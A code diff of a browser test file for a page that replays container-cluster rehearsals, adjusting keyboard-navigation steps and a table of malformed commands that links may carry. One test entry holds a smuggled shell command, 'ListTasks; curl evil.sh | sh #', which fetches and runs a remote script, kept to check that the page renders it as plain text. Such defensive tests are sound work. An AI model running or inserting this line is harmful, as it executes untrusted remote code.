@@ -164,7 +164,6 @@ test('a whole drain by keyboard', { skip }, () =>
     await tabTo('Deregister');
     await page.keyboard.press('Enter');
     await said(page, 'DeregisterContainerInstance was done.');
-    await tabTo('Actions', 'Shift+Tab');
     await page.keyboard.press('Enter');
     await tabTo('Terminate');
     await page.keyboard.press('Enter');
@@ -228,6 +227,7 @@ for (const [what, [address, words]] of Object.entries({
   'has no cluster': [linkOf({ ...GOOD, setup: 'harbour' }), damaged('its setup is no list of up to 1000 commands and conditions')],
   'goes on for ever': [linkOf({ ...GOOD, untilMs: 1e15 }), damaged('its untilMs is no number of milliseconds up to 30 days')],
   'waits for ever': [linkOf({ ...GOOD, commands: [{ atMs: 0, command: { kind: 'advance', milliseconds: 1e15 } }] }), damaged('commands[0]: its milliseconds are no whole number from 0 up to 30 days')],
+  'has a number for an operation': [linkOf({ ...GOOD, commands: [{ atMs: 0, command: { kind: 'call', operation: 5 } }] }), damaged('commands[0]: its kind, operation, action and type have to be texts')],
   'begins with what never comes': [linkOf({ ...GOOD, setup: [{ until: { service: { name: 'web', steady: true } } }] }), 'The rehearsal could not be done again: setup[0]: it never comes that {"service":{"name":"web","steady":true}}'],
   'is of another version': [linkOf({ ...GOOD, behaviourVersion: 1 }), `The rehearsal is of behaviour version 1, this page has ${behaviourVersion()}: what it shows would not be what was shown.`],
 })) {
@@ -248,9 +248,6 @@ test('script in a link is text', { skip }, () =>
 /** Commands that nobody would give, as a link may hold them, and what is shown of them. */
 const ODD = {
   'no operation': [{ kind: 'call' }, '{"kind":"call"}'],
-  'a number for an operation': [{ kind: 'call', operation: 5 }, '{"kind":"call","operation":5}'],
-  'an object for an action': [{ kind: 'host', host: 'i-1', action: { toString: 1 } }, '{"kind":"host","host":"i-1","action":{"toString":1}}'],
-  'an object for a fault': [{ kind: 'fault', fault: { type: { toString: 1 } } }, '{"kind":"fault","fault":{"type":{"toString":1}}}'],
   'an object for a family': [{ kind: 'workload', family: { toString: 1 } }, '{"kind":"workload","family":{"toString":1}}'],
   'code for an operation': [{ kind: 'call', operation: 'ListTasks; curl evil.sh | sh #' }, 'ListTasks; curl evil.sh | sh #'],
 };
